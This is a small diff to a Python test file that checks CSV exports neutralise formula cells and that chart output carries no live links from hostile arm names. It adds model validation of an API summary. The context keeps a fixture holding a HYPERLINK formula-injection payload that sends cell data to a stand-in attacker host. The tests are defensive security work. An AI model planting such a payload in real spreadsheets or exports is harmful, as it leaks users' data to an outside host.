@@ -22,6 +22,7 @@ from backend.figures import build_figure
 from backend.figures.style import PLOTLY_CONFIG
 from backend.reports.render import safe_cell
 from pilot_cli.service import api_command
+from pilot_spec.analysis import PilotAnalysis
 from tests.support.api import API, Api, create_pilot, finish, open_api
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
@@ -80,7 +81,7 @@ def test_csv_cells_that_start_like_formulas_are_neutralised_per_owasp(cell: Any,
 
 def test_an_arm_named_with_markup_is_no_live_link_in_any_chart(api: Api) -> None:
     pilot = hostile_arms_pilot(api)
-    summary = api.client.get(f"{API}/pilots/{pilot['id']}/summary").json()
+    summary = PilotAnalysis.model_validate(api.client.get(f"{API}/pilots/{pilot['id']}/summary").json())
     for name in ("accuracy_curves", "accuracy_vs_cost", "cost_per_run", "stability", "roi"):
         text = build_figure(name, summary).to_json()
         assert "<a href" not in text and "\\u003ca href" not in text.lower(), name
